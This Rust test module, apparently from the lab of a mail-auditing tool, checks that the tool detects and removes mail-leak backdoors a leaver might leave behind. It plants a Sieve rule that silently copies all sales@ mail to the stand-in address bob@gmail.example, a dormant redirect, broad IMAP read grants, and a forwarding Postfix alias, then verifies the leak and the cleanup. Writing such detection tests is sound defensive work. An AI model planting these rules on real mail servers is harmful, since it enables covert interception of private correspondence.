//! What an intruder or a leaver leaves behind to go on reading: planted for real, found, and taken away again.

use std::time::Duration;

use mailwarden_lab::outside::Outside;
use mailwarden_lab::wait::wait_for;

use super::letters::{message, read_back};
use super::rounds::Finding;
use super::stage::{INNOCENT_ALIAS, SOON, Stage, address};
use crate::talk::{count, note};

/// Where the leaver reads what is none of his business any more.
const LEAVER_OUTSIDE: &str = "bob@gmail.example";
const SALES_SCRIPT: &str = "roundcube";
/// As Roundcube writes its filter rules: the comment is the name that its user sees.
const SALES_RULES: &str = "require [\"copy\",\"fileinto\"];\r\n\
    # rule:[Newsletters]\r\n\
    if header :contains \"list-id\" \"news\"\r\n{\r\n\tfileinto \"Newsletters\";\r\n}\r\n\
    # rule:[Invoices]\r\n\
    if true\r\n{\r\n\tredirect :copy \"bob@gmail.example\";\r\n}\r\n";
const JANE_SCRIPT: &str = "holiday";
const JANE_RULES: &str = "# rule:[While away]\r\nredirect \"bob@gmail.example\";\r\n";
const ARCHIVE: &str = "Archive";
const ALIAS: &str = "offers-copy@example.test";
const SUBJECT: &str = "An order that is nobody else's business";
const AFTERWARDS: &str = "An order after the rounds";
/// A copy leaves the queue within moments; a busy machine gets more.
const DEPARTURE: Duration = Duration::from_secs(15);

/// One planted thing: its description, and how the finding about it is recognised.
pub(super) struct Planted {
    pub(super) what: &'static str,
    pub(super) found_as: fn(&Finding) -> bool,
}

/// Everything that the rounds have to find.
pub(super) const PLANTED: [Planted; 5] = [
    Planted {
        what: "a Roundcube rule in sales@ that copies every mail to bob@gmail.example",
        found_as: |finding| {
            finding.mailbox == "sales@example.test"
                && finding.locator.script.as_deref() == Some(SALES_SCRIPT)
                && finding.locator.line == Some(10)
                && finding.beneficiary.value == LEAVER_OUTSIDE
                && finding.state == "active"
        },
    },
    Planted {
        what: "an inactive script in jane@ that would redirect to bob@gmail.example",
        found_as: |finding| {
            finding.mailbox == "jane@example.test"
                && finding.locator.script.as_deref() == Some(JANE_SCRIPT)
                && finding.beneficiary.value == LEAVER_OUTSIDE
                && finding.state == "dormant"
        },
    },
    Planted {
        what: "the folder Archive of ops@, readable by bob@, who has left",
        found_as: |finding| {
            finding.mailbox == "ops@example.test"
                && finding.locator.folder.as_deref() == Some(ARCHIVE)
                && finding.beneficiary.value == "bob@example.test"
        },
    },
    Planted {
        what: "the INBOX of sales@, readable by anyone",
        found_as: |finding| {
            finding.mailbox == "sales@example.test"
                && finding.locator.folder.as_deref() == Some("INBOX")
                && finding.beneficiary.value == "anyone"
        },
    },
    Planted {
        what: "the Postfix alias offers-copy@ to bob@gmail.example",
        found_as: |finding| {
            finding.surface.id == "postfix.virtual_alias_maps"
                && finding.locator.key.as_deref() == Some(ALIAS)
                && finding.beneficiary.value == LEAVER_OUTSIDE
        },
    },
];

/// Plants everything.
pub(super) fn plant(stage: &Stage) -> anyhow::Result<()> {
    plant_scripts(stage)?;
    plant_grants(stage)?;
    set_aliases(stage, &[INNOCENT_ALIAS, (ALIAS, LEAVER_OUTSIDE)])?;
    note(&format!("{} planted", count(PLANTED.len(), "thing")));
    Ok(())
}

fn plant_scripts(stage: &Stage) -> anyhow::Result<()> {
    let mut sales = stage.lab.managesieve(&address("sales"))?;
    sales.putscript(SALES_SCRIPT, SALES_RULES)?;
    sales.setactive(SALES_SCRIPT)?;
    Ok(stage.lab.managesieve(&address("jane"))?.putscript(JANE_SCRIPT, JANE_RULES)?)
}

fn plant_grants(stage: &Stage) -> anyhow::Result<()> {
    let mut ops = stage.lab.imap(&address("ops"))?;
    if !ops.list()?.iter().any(|folder| folder == ARCHIVE) {
        ops.create(ARCHIVE)?;
    }
    ops.setacl(ARCHIVE, &address("bob"), "lr")?;
    Ok(stage.lab.imap(&address("sales"))?.setacl("INBOX", "anyone", "lr")?)
}

/// Takes everything away again, by the same protocols an admin would use.
pub(super) fn remove(stage: &Stage) -> anyhow::Result<()> {
    let mut sales = stage.lab.managesieve(&address("sales"))?;
    sales.setactive("")?;
    sales.deletescript(SALES_SCRIPT)?;
    stage.lab.managesieve(&address("jane"))?.deletescript(JANE_SCRIPT)?;
    stage.lab.imap(&address("ops"))?.deleteacl(ARCHIVE, &address("bob"))?;
    stage.lab.imap(&address("sales"))?.deleteacl("INBOX", "anyone")?;
    set_aliases(stage, &[INNOCENT_ALIAS])?;
    note("scripts deleted, grants revoked, alias removed");
    Ok(())
}

fn set_aliases(stage: &Stage, aliases: &[(&str, &str)]) -> anyhow::Result<()> {
    let aliases: Vec<(String, String)> =
        aliases.iter().map(|(from, to)| ((*from).to_owned(), (*to).to_owned())).collect();
    stage.lab.postfix.set_virtual_aliases(&aliases)?;
    Ok(stage.lab.postfix.reload()?)
}

/// Shows with one letter that what was planted works. Hands over how many copies left the house.
pub(super) fn leak(stage: &Stage) -> anyhow::Result<usize> {
    order(stage, &["sales@example.test", ALIAS], SUBJECT)?;
    let copies = || copies(stage, SUBJECT);
    wait_for(DEPARTURE, "the copies that leave the house", || copies() >= 2)?;
    note(&format!("one order to sales@ and offers-copy@: {} copies reached {LEAVER_OUTSIDE}", copies()));
    Ok(copies())
}

/// Whether a letter to sales@ now stays in the house.
pub(super) fn no_longer_leaks(stage: &Stage) -> anyhow::Result<bool> {
    order(stage, &["sales@example.test"], AFTERWARDS)?;
    // Sieve hands copies to Postfix before it says that the letter is stored.
    stage.lab.postfix.wait_until_queue_empty(SOON)?;
    Ok(copies(stage, AFTERWARDS) == 0)
}

fn order(stage: &Stage, recipients: &[&str], subject: &str) -> anyhow::Result<()> {
    let customer = "customer@client.test";
    let text = message(customer, "sales@example.test", subject);
    let outcome = stage.lab.smtp_from_outside()?.send(customer, recipients, text)?;
    anyhow::ensure!(outcome.is_accepted(), "an order to sales@ was refused: {:?}", outcome.refusal());
    read_back(stage, "sales", subject).map(drop)
}

fn copies(stage: &Stage, subject: &str) -> usize {
    let departed = stage.lab.outside().map(Outside::departed).unwrap_or_default();
    let to_him = |recipients: &[String]| recipients.iter().any(|recipient| recipient == LEAVER_OUTSIDE);
    departed.iter().filter(|mail| to_him(&mail.recipients) && mail.message.contains(subject)).count()
}
